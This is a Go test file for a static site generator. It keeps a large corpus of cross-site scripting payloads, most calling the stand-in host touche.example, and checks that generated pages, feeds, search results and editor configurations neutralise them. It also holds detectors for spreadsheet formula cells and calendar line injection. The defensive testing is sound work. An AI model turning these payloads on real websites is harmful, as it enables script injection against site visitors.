package browsertest

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode/utf8"

	"github.com/chromedp/chromedp"
	"go.yaml.in/yaml/v4"
	"golang.org/x/net/html"

	"recueil/assets"
	"recueil/internal/authoring"
	"recueil/internal/check"
	"recueil/internal/content"
	"recueil/internal/diag"
	"recueil/internal/publish"
	"recueil/internal/site"
	"recueil/templates"
)

// call asks another site for something: what a hostile text wants to do, where the browser
// shows it did.
const call = `fetch('//touche.example')`

// payloads are what contributors could write to have it done, by the way they take. Each
// runs in a page that puts it where it stands without a defence.
var payloads = map[string][]string{
	"element": {
		`<script>` + call + `</script>`,
		`<img src=x onerror=` + call + `>`,
		`<iframe src="//touche.example"></iframe>`,
		`<object data="//touche.example"></object>`,
		`<embed src="//touche.example">`,
		`<link rel=stylesheet href="//touche.example">`,
		`<style>@import "//touche.example";</style>`,
		`<meta http-equiv=refresh content="0;url=//touche.example">`,
		`<video poster="//touche.example"></video>`,
		`<SCRIPT SRC=//touche.example></SCRIPT>`,
	},
	"event": {
		`<svg onload=` + call + `>`,
		`<body onpageshow=` + call + `>`,
		`<details open ontoggle=` + call + `>`,
		`<input autofocus onfocus=` + call + `>`,
		`<video><source onerror=` + call + `></video>`,
		`<audio src=x onerror=` + call + `>`,
		`<style onload=` + call + `></style>`,
		`<a autofocus tabindex=1 onfocus=` + call + `>`,
		`<img/src="x"/onerror=` + call + `>`,
	},
	"drawing": {
		`<svg><script>` + call + `</script></svg>`,
		`<svg><image href="//touche.example"/></svg>`,
		`<svg><animate onbegin=` + call + ` attributeName=x dur=1s>`,
		`<svg><set onbegin=` + call + ` attributeName=x>`,
		`<svg><style>@import "//touche.example"</style></svg>`,
		`<svg><foreignObject><img src=x onerror=` + call + `></foreignObject></svg>`,
		`<svg/onload=` + call + `>`,
		`<svg><feImage href="//touche.example"/><filter id=f><feImage href="//touche.example"/></filter><rect filter="url(#f)" width=9 height=9 /></svg><img src="//touche.example">`,
	},
	"attribute": {
		`"><img src=x onerror=` + call + `>`,
		`'"><svg onload=` + call + `>`,
		`" autofocus tabindex=1 onfocus="` + call,
		`"><script>` + call + `</script>`,
		`"></p><iframe src=//touche.example></iframe>`,
		`" style="background:url(//touche.example)`,
		`" onanimationstart="" style="background-image:url('//touche.example')`,
		`"/><img src="//touche.example`,
	},
	"data": {
		`</script><script>` + call + `</script>`,
		`</title><script>` + call + `</script>`,
		`--><script>` + call + `</script>`,
		`]]><script>` + call + `</script>`,
		`</SCRIPT ><img src=x onerror=` + call + `>`,
		`</textarea><img src=x onerror=` + call + `>`,
		`</style><img src=x onerror=` + call + `>`,
		`<!--></script><svg onload=` + call + `>`,
	},
	"link": {
		`<a href="javascript:` + call + `">a</a>`,
		`<a href="JaVaScRiPt:` + call + `">a</a>`,
		`<a href="java&#9;script:` + call + `">a</a>`,
		`<a href="&#1;javascript:` + call + `">a</a>`,
		`<a href="javascript&colon;` + call + `">a</a>`,
		`<a href="java&#10;script:` + call + `">a</a>`,
		`<form action="javascript:` + call + `"><button>a</button></form>`,
		`<a href="//touche.example">a</a>`,
	},
	"feed": {
		`<h:script xmlns:h="http://www.w3.org/1999/xhtml">` + call + `</h:script>`,
		`<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="` + call + `"/>`,
		`<svg xmlns="http://www.w3.org/2000/svg" onload="` + call + `"/>`,
		`<svg xmlns="http://www.w3.org/2000/svg"><script>` + call + `</script></svg>`,
		`<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="//touche.example"/>`,
		`</title><h:script xmlns:h="http://www.w3.org/1999/xhtml">` + call + `</h:script><title>`,
		`<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="//touche.example"/>`,
		`<h:style xmlns:h="http://www.w3.org/1999/xhtml">@import "//touche.example";</h:style>`,
		`]]></title><h:video xmlns:h="http://www.w3.org/1999/xhtml" poster="//touche.example"/><title>`,
	},
	"result": {
		`cible <img src=x onerror=` + call + `>`,
		`<mark>cible</mark><img src=x onerror=` + call + `>`,
		`</a><iframe src="//touche.example"></iframe>`,
		`<video><source onerror=` + call + `></video>`,
		`<object data="//touche.example"></object>`,
		`<input autofocus onfocus=` + call + `>`,
		`<details open ontoggle=` + call + `>`,
		`<svg><image href="//touche.example"/></svg>`,
		`<style>@import "//touche.example";</style>`,
	},
}

// undefended is a page that has a payload where its way puts it, and no defence.
func undefended(way, payload string) (page, mediaType string) {
	const head, html = "<!DOCTYPE html><title>a</title>", "text/html; charset=utf-8"
	switch way {
	case "attribute":
		return head + `<p title="` + payload + `">a</p>`, html
	case "data":
		open, _, _ := strings.Cut(strings.Trim(payload, "</!->] "), ">")
		switch kind := strings.ToLower(strings.TrimSpace(open)); {
		case strings.HasPrefix(payload, "-->"):
			return "<!DOCTYPE html><!-- " + payload, html
		case strings.HasPrefix(payload, "</"):
			return "<!DOCTYPE html><" + kind + ` type="application/ld+json">` + payload, html
		}
		return "<!DOCTYPE html>" + payload, html
	case "feed":
		open, end := "", ""
		if strings.HasPrefix(payload, "]]>") {
			open, end = "<![CDATA[", ""
		}
		return `<feed xmlns="http://www.w3.org/2005/Atom"><title>` + open + payload + end + `</title></feed>`, "application/xml"
	case "result":
		data, _ := json.Marshal(payload)
		return head + "<body><script>document.body.innerHTML = " + string(data) + "</script>", html
	case "file":
		return payload, "image/svg+xml"
	}
	return head + "<p>" + payload, html
}

// TestPayloadsAreLive opens each payload in a page without a defence: it calls, or the
// corpus proves nothing.
func TestPayloadsAreLive(t *testing.T) {
	t.Parallel()
	type page struct{ text, mediaType string }
	pages := map[string]page{}
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", pages[r.URL.Path].mediaType)
		io.WriteString(w, pages[r.URL.Path].text)
	})
	for way, list := range payloads {
		for i, payload := range list {
			text, mediaType := undefended(way, payload)
			pages[fmt.Sprintf("/%s/%d", way, i)] = page{text, mediaType}
		}
	}
	for name, text := range svgFiles() {
		text, mediaType := undefended("file", text)
		pages["/file/"+name] = page{text, mediaType}
	}
	h := httptest.NewServer(mux)
	t.Cleanup(h.Close)
	b := open(t, &server{URL: h.URL + "/"})
	b.expect("") // all that comes is wanted
	for address, page := range pages {
		before := b.calls()
		b.tryTo(address)
		for range 20 {
			if b.calls() > before {
				break
			}
			_, _ = chromedp.Run(b.ctx, chromedp.Evaluate[bool](`new Promise((r) => setTimeout(r, 50, true))`, chromedp.EvalAwaitPromise))
		}
		if b.calls() == before {
			t.Errorf("%s does nothing: %s", address, page.text)
		}
	}
	for _, line := range calendarLines {
		if harmless("a.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:"+line+"\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")) == nil {
			t.Errorf("in a calendar, %q does nothing", line)
		}
	}
	for _, cell := range formulas {
		if harmless("a.csv", []byte("a;\""+strings.ReplaceAll(cell, `"`, `""`)+"\"\n")) == nil {
			t.Errorf("in a table, %q does nothing", cell)
		}
	}
}

// calls counts the requests to the other site.
func (b *tab) calls() int {
	b.mu.Lock()
	defer b.mu.Unlock()
	n := 0
	for _, f := range b.faults {
		if strings.Contains(f, "touche.example") {
			n++
		}
	}
	return n
}

// tryTo opens a page, which may lead elsewhere, and presses what it shows.
func (b *tab) tryTo(address string) {
	ctx, cancel := context.WithTimeout(b.ctx, patience)
	defer cancel()
	_ = chromedp.Do(ctx, chromedp.Navigate(b.origin+strings.TrimPrefix(address, "/"))) // it may be gone already
	_, _ = chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelectorAll("a[href], form button").forEach((e) => e.click()) ?? true`))
}

// TestClassesAreFull counts the corpus: with fewer files, a class proves little.
func TestClassesAreFull(t *testing.T) {
	t.Parallel()
	total := 0
	for _, c := range corpus() {
		different := map[string]bool{}
		for _, f := range c.files {
			different[f.name+"\n"+f.text] = true
		}
		if total += len(different); len(different) < fewest {
			t.Errorf("%s: %d files, want %d", c.name, len(different), fewest)
		}
	}
	if t.Logf("%d files", total); total < 150 {
		t.Errorf("%d files are too few", total)
	}
}

// mostMade is the most memory, in all, that is asked for to read one hostile file and to
// check it: a bound on work that a busy machine does not change.
const mostMade = 200 << 20

// TestHostileFilesAlone reads each file of the corpus beside one with a mistake, and checks
// both: that mistake is still reported, soon and without much memory, and so is the file
// where its class must be. It waits for no other test, since it counts what memory is asked for.
func TestHostileFilesAlone(t *testing.T) {
	slowest, largest := time.Duration(0), uint64(0)
	for _, c := range corpus() {
		for _, f := range c.files {
			begun := time.Now()
			problems, made := examined(t, f)
			slowest, largest = max(slowest, time.Since(begun)), max(largest, made)
			if made > mostMade {
				t.Errorf("%s: %.80q: %d MB are asked for", c.name, f.name, made>>20)
			}
			other, own := false, false
			for _, p := range problems {
				name := strings.TrimPrefix(p.Source.Path, "content/")
				_, with := f.with[name]
				other = other || name == witness
				own = own || with || name == f.name || strings.HasPrefix(f.name, name+"/")
			}
			if !other {
				t.Errorf("%s: %.80q keeps another file from being checked: %s", c.name, f.name, said(problems))
			}
			if c.said && !c.drawn && !f.read && !own {
				t.Errorf("%s: nothing is said of %.80q: %.120q", c.name, f.name, f.text)
			}
		}
	}
	t.Logf("slowest: %v; largest: %d MB", slowest, largest>>20)
}

// witness is a file with a mistake.
const witness = "fiches/temoin-du-corpus.md"

// examined reads a hostile file and the witness, and checks them. It returns the problems,
// and how much memory was asked for.
func examined(t *testing.T, f hostile) ([]diag.Diagnostic, uint64) {
	t.Helper()
	tree := plainTree()
	tree[witness] = &fstest.MapFile{Data: []byte(sheetOf(plainHead+"bogue: 1\n", ""))}
	f.addTo(tree)
	var files fs.FS = tree
	if f.make != nil {
		files = f.onDisk(t, tree)
	}
	late := time.AfterFunc(patience, func() { panic(fmt.Sprintf("%.80q is still being read after %v", f.name, patience)) })
	defer late.Stop()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, problems := checked(t, files)
	runtime.ReadMemStats(&after)
	return problems, after.TotalAlloc - before.TotalAlloc
}

// checked reads a content, and returns what is wrong with it.
func checked(t *testing.T, files fs.FS) (*content.Collection, []diag.Diagnostic) {
	t.Helper()
	coll, problems, err := content.Load(context.Background(), []content.Root{{Name: "content", FS: files}}, 1)
	if err != nil {
		t.Fatal(err)
	}
	return coll, append(problems, check.Collection(coll)...)
}

// plainTree is a recueil without a mistake.
func plainTree() fstest.MapFS {
	return fstest.MapFS{
		"recueil.yaml":    {Data: []byte("titre: Essai\nbase_url: https://essai.example.org/\n")},
		"images/a.svg":    {Data: []byte(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"/>`)},
		"fiches/plain.md": {Data: []byte(sheetOf(plainHead, ""))},
	}
}

func (f hostile) addTo(tree fstest.MapFS) {
	for name, text := range f.with {
		tree[name] = &fstest.MapFile{Data: []byte(text)}
	}
	if f.make == nil {
		tree[f.name] = &fstest.MapFile{Data: []byte(f.text)}
	}
}

// onDisk writes a tree in a folder, and what a tree in memory cannot have.
func (f hostile) onDisk(t *testing.T, tree fstest.MapFS) fs.FS {
	t.Helper()
	delete(tree, f.name)
	dir := t.TempDir()
	if err := os.CopyFS(dir, tree); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, filepath.FromSlash(f.name))
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), f.make(path)); err != nil {
		t.Fatal(err)
	}
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return root.FS()
}

// said is what problems say, and where.
func said(problems []diag.Diagnostic) string {
	var b strings.Builder
	for _, p := range problems {
		fmt.Fprintf(&b, "%.60s %s: %s\n", p.Source.Path, p.Rule.Name, p.Message)
	}
	return b.String()
}

// builtFrom makes a site, and returns the problems that are errors.
func builtFrom(t *testing.T, tree fs.FS) (fs.FS, []diag.Diagnostic) {
	t.Helper()
	in := site.Input{Content: []content.Root{{Name: "content", FS: tree}}, Templates: templates.FS, Assets: assets.FS}
	out := publish.NewMemory()
	_, problems, err := site.Build(context.Background(), in, out, site.Options{Today: today, Jobs: 2})
	if err != nil {
		t.Fatal(err)
	}
	return out.FS(), slices.DeleteFunc(problems, func(p diag.Diagnostic) bool { return p.Severity != diag.Error })
}

// TestHostilePictures makes a site of all pictures that no site may have: each is reported.
func TestHostilePictures(t *testing.T) {
	t.Parallel()
	tree, names := plainTree(), map[string]bool{}
	for _, c := range corpus() {
		for _, f := range c.files {
			if c.drawn {
				f.addTo(tree)
				names["content/"+f.name] = true
			}
		}
	}
	for len(names) > 0 {
		_, problems := builtFrom(t, tree)
		before := len(names)
		for _, p := range problems {
			name := strings.TrimPrefix(p.Source.Path, "content/")
			if delete(names, p.Source.Path); tree[name] == nil || strings.HasSuffix(name, ".md") {
				t.Errorf("%s is what is reported: %s", p.Source.Path, p.Message)
			}
			tree[name] = tree["images/a.svg"] // what is looked at first hides the others
		}
		if len(names) == before {
			t.Fatalf("nothing is said of %v", slices.Sorted(maps.Keys(names)))
		}
	}
}

// TestHostileContent builds a recueil of the files of the corpus that are not refused, each
// at its place, and opens each page that is left, and a feed, and the results of the search:
// nothing runs, and nothing is asked of another site. What is published is well formed, and
// holds nothing that would run.
func TestHostileContent(t *testing.T) {
	t.Parallel()
	tree, documents := plainTree(), []string{}
	for _, c := range corpus() {
		for _, f := range c.files {
			if path.Ext(f.name) == ".md" && !c.alone && !c.drawn && f.make == nil {
				f.addTo(tree)
				documents = append(documents, f.name)
			}
		}
	}
	tree["recueil.yaml"].Data = []byte("titre: " + quoted(payloads["attribute"][0]) + "\ndescription: " + quoted(payloads["data"][0]) +
		"\nbase_url: https://essai.example.org/\nediteur: {nom: " + quoted(payloads["feed"][5]) + "}\n")
	_, problems := checked(t, tree)
	for _, p := range problems {
		name := strings.TrimPrefix(p.Source.Path, "content/")
		if name == "recueil.yaml" || name == "fiches/plain.md" {
			t.Fatal(said(problems))
		}
		if p.Severity == diag.Error {
			delete(tree, name)
		}
	}
	out, problems := builtFrom(t, tree)
	if len(problems) > 0 {
		t.Fatal(said(problems))
	}
	published := 0
	b := open(t, serve(t, out, ownPath))
	for _, name := range documents {
		if tree[name] != nil {
			published++
			b.visit(strings.TrimSuffix(name, ".md") + "/")
		}
	}
	for _, address := range []string{"", "fiches/", "fiches/page/2/", "evenements/"} {
		b.visit(address)
	}
	b.visit("recherche/?q=cible")
	b.until(`document.querySelectorAll("[data-resultats] li").length >= 8`)
	b.visit("recherche/?q=" + url.QueryEscape(payloads["result"][0]))
	b.until(`document.querySelector("[data-resultats]").dataset.etat`)
	feed := open(t, serve(t, out, ownPath))
	feed.expect("Applying inline style") // by Chromium itself, to show what has no style
	feed.expect("favicon.ico")           // of which a feed does not speak
	feed.visit("flux.xml")
	t.Logf("%d documents published, %d refused", published, len(documents)-published)
	if refused := len(documents) - published; published < 150 || refused < 150 {
		t.Errorf("%d documents published, %d refused: too few to show anything", published, refused)
	}
	checkHarmless(t, out)
}

// checkHarmless reads all that is published.
func checkHarmless(t *testing.T, out fs.FS) {
	t.Helper()
	if err := fs.WalkDir(out, ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := fs.ReadFile(out, name)
		if err == nil {
			err = harmless(name, data)
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
		}
		return nil
	}); err != nil {
		t.Fatal(err)
	}
}

// harmless says what in a published file would run or call, or is not what its name says.
func harmless(name string, data []byte) error {
	switch path.Ext(name) {
	case ".html":
		return harmlessHTML(data)
	case ".json":
		if !json.Valid(data) {
			return errors.New("is no JSON")
		}
	case ".xml", ".svg":
		return harmlessXML(data)
	case ".csv":
		return harmlessTable(data)
	case ".ics":
		return harmlessCalendar(data)
	}
	return nil
}

// harmlessXML wants elements of one language alone, and none that runs.
func harmlessXML(data []byte) error {
	language := ""
	for d := xml.NewDecoder(bytes.NewReader(data)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return err
		}
		e, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		if language == "" {
			language = e.Name.Space
		}
		if e.Name.Space != language || e.Name.Local == "script" || e.Name.Local == "iframe" || e.Name.Local == "img" {
			return fmt.Errorf("has <%s> of %q", e.Name.Local, e.Name.Space)
		}
	}
}

// harmlessTable wants no cell that a spreadsheet would compute.
func harmlessTable(data []byte) error {
	table := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	table.Comma = ';'
	rows, err := table.ReadAll()
	if err != nil {
		return err
	}
	for _, row := range rows {
		for _, cell := range row {
			if first, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", first) {
				return fmt.Errorf("has a cell that is a formula: %q", cell)
			}
		}
	}
	return nil
}

var (
	// lineEnds are what some reader takes for the end of a line, where the standard has but
	// one; that one and a space go on with the line.
	lineEnds = regexp.MustCompile("[\r\n\v\f\x1c\x1d\x1e\u0085\u2028\u2029]+")
	folds    = regexp.MustCompile("\r\n[ \t]")
	// calendarProperty is what our lines begin with.
	calendarProperty = regexp.MustCompile(`^(BEGIN:(VCALENDAR|VTIMEZONE|STANDARD|DAYLIGHT|VEVENT)$|(END|VERSION|PRODID|METHOD|X-WR-CALNAME|REFRESH-INTERVAL|X-PUBLISHED-TTL|` +
		`TZID|TZNAME|TZOFFSETFROM|TZOFFSETTO|UID|DTSTAMP|DTSTART|DTEND|SUMMARY|DESCRIPTION|LOCATION|CATEGORIES)[;:]|URL:https://essai\.example\.org/)`)
)

// harmlessCalendar wants the lines of events and of their time zones, and no other.
func harmlessCalendar(data []byte) error {
	if bytes.Count(data, []byte("BEGIN:VCALENDAR")) > 1 {
		return errors.New("has another calendar in it")
	}
	for _, line := range lineEnds.Split(strings.TrimSpace(folds.ReplaceAllString(string(data), "")), -1) {
		if !calendarProperty.MatchString(line) {
			return fmt.Errorf("has the line %q", line)
		}
	}
	return nil
}

func harmlessHTML(page []byte) error {
	z := html.NewTokenizer(bytes.NewReader(page))
	for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken {
			continue
		}
		token := z.Token()
		own := strings.Contains("iframe object embed style video audio foreignobject animate set", token.Data) && len(token.Data) > 2
		for _, a := range token.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			fetched := (a.Key == "src" || a.Key == "data" || a.Key == "poster") && strings.Contains(value, "//")
			if token.Data == "script" && kind == html.StartTagToken && a.Key == "type" && a.Val == "application/ld+json" {
				if z.Next(); !json.Valid(z.Raw()) {
					return fmt.Errorf("has JSON-LD that is no JSON: %s", z.Raw())
				}
			}
			if strings.HasPrefix(a.Key, "on") || a.Key == "style" || fetched || strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "data:") {
				return fmt.Errorf("has <%s %s=%q>", token.Data, a.Key, a.Val)
			}
		}
		if own {
			return fmt.Errorf("has <%s>", token.Data)
		}
	}
	return nil
}

// TestHostileSettings makes the page and the configuration of each web editor for sites
// whose settings are hostile: but for the words in it, each file is what it is for a plain
// site, and the page runs nothing.
func TestHostileSettings(t *testing.T) {
	t.Parallel()
	pages := fstest.MapFS{}
	for _, c := range corpus() {
		for i, f := range c.files {
			if !c.alone {
				continue
			}
			tree := plainTree()
			f.addTo(tree)
			coll, problems := checked(t, tree)
			if diag.HasErrors(problems) {
				continue
			}
			plain := &content.Site{Title: "Essai", BaseURL: "https://essai.example.org/"}
			if coll.Site.Repository != nil {
				plain.Repository = &content.Repo{URL: "https://github.com/a/b", Branch: "main"}
			}
			for _, cms := range authoring.CMSes() {
				got, want := configured(t, cms, coll.Site), configured(t, cms, plain)
				for j := range want {
					if got[j].Path != want[j].Path || shape(t, got[j]) != shape(t, want[j]) {
						t.Errorf("%s: for %s, the file %s is another:\n%s", cms.Name, f.text, got[j].Path, got[j].Data)
					}
					pages[fmt.Sprintf("%s-%d/%s", cms.Name, i, got[j].Path)] = &fstest.MapFile{Data: got[j].Data}
				}
			}
		}
	}
	host := httptest.NewServer(http.FileServerFS(pages))
	t.Cleanup(host.Close)
	b := open(t, &server{URL: host.URL + "/"})
	b.expect("404") // the editor itself, and the icon
	b.expect("sveltia-cms.js")
	opened := 0
	for name := range pages {
		if folder, ok := strings.CutSuffix(name, "/index.html"); ok && strings.HasPrefix(name, "sveltia") {
			opened++
			b.visit(folder + "/")
		}
	}
	if opened < fewest {
		t.Errorf("%d pages opened: too few to show anything", opened)
	}
}

func configured(t *testing.T, cms authoring.CMS, s *content.Site) []authoring.File {
	t.Helper()
	files, err := cms.Configured(s, authoring.Forge{Repository: s.Repository, Content: "content"})
	if err != nil {
		t.Fatal(err)
	}
	return files
}

// shape is a file of a web editor without the words in it: the elements of a page with the
// names of their attributes, and its policies; the keys of a configuration; the headers.
func shape(t *testing.T, f authoring.File) string {
	t.Helper()
	var b strings.Builder
	switch path.Ext(f.Path) {
	case ".html":
		z := html.NewTokenizer(bytes.NewReader(f.Data))
		for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
			token := z.Token()
			if kind == html.TextToken || kind == html.CommentToken {
				continue
			}
			b.WriteString(kind.String() + token.Data)
			policy := slices.ContainsFunc(token.Attr, func(a html.Attribute) bool { return a.Key == "http-equiv" })
			for _, a := range token.Attr {
				if b.WriteString(" " + a.Key); policy || a.Key == "src" {
					b.WriteString("=" + a.Val)
				}
			}
			b.WriteByte('\n')
		}
	case ".yml":
		var keys func(any)
		keys = func(v any) {
			switch v := v.(type) {
			case map[string]any:
				for _, key := range slices.Sorted(maps.Keys(v)) {
					b.WriteString(key + "{")
					keys(v[key])
					b.WriteString("}")
				}
			case []any:
				for _, item := range v {
					keys(item)
				}
			}
		}
		var config any
		if err := yaml.Unmarshal(f.Data, &config); err != nil {
			t.Fatal(err)
		}
		keys(config)
	default:
		return string(f.Data)
	}
	return b.String()
}

// TestHostileDrafts opens hostile files in the local editor, which shows those that are
// refused, too: their words are words, in the form and in the preview.
func TestHostileDrafts(t *testing.T) {
	t.Parallel()
	a := newAuthor(t)
	var files []hostile
	for _, c := range corpus() {
		if c.name == localEditor {
			files = c.files
		}
	}
	for _, f := range files {
		a.save("content/"+f.name, f.text)
	}
	b := openEditor(t, a.servesEditor())
	for _, f := range files {
		b.visit("/_recueil/atelier/?fichier=" + url.QueryEscape(filepath.ToSlash(a.file("content/"+f.name))))
		b.until(`document.querySelector("#bilan").textContent.includes("erreur")`)
		if found := value[string](b, `[document, document.querySelector("#apercu")?.contentDocument].flatMap((d) => [...d?.querySelectorAll("*") ?? []])
			.find((e) => [...e.attributes].some((a) => a.name.startsWith("on") || /^\s*javascript:|touche\.example/i.test(a.value) && e.localName !== "input"))?.outerHTML ?? ""`); found != "" {
			t.Errorf("%s: %s", f.name, found)
		}
	}
	if len(files) < fewest {
		t.Errorf("%d files: too few to show anything", len(files))
	}
}
